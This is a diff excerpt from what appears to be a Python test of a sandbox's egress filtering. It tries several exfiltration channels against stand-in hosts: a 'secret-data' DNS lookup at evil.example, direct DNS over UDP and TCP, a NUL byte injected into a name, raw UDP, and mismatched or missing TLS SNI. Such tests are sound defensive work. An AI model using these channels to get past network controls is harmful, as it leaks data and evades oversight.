@@ -230,8 +230,7 @@ attempt("dns-unlisted-name", resolve(f"secret-data-{TAG}.evil.example"))
 attempt("dns-straight-to-a-server", dns_udp("192.0.2.53", [f"x-{TAG}".encode(), b"evil",
                                                            b"example"]))
 attempt("dns-over-tcp", dns_tcp("192.0.2.53", [f"tcp-{TAG}".encode(), b"evil", b"example"]))
-attempt("dns-nul-in-name", dns_udp("192.0.2.53", [b"evil\0", b"http", ZONE.split(".")[0].encode(),
-                                                 b"test"]))
+attempt("dns-nul-in-name", dns_udp("192.0.2.53", [b"evil\0", b"http", b"agentd", b"test"]))
 attempt("udp-out", udp_out("192.0.2.1", 9))
 attempt("tls-other-sni", tls(f"tls.{ZONE}", P["tls"], f"evil-{TAG}.example"))
 attempt("tls-no-sni", tls(f"tls.{ZONE}", P["tls"], None))
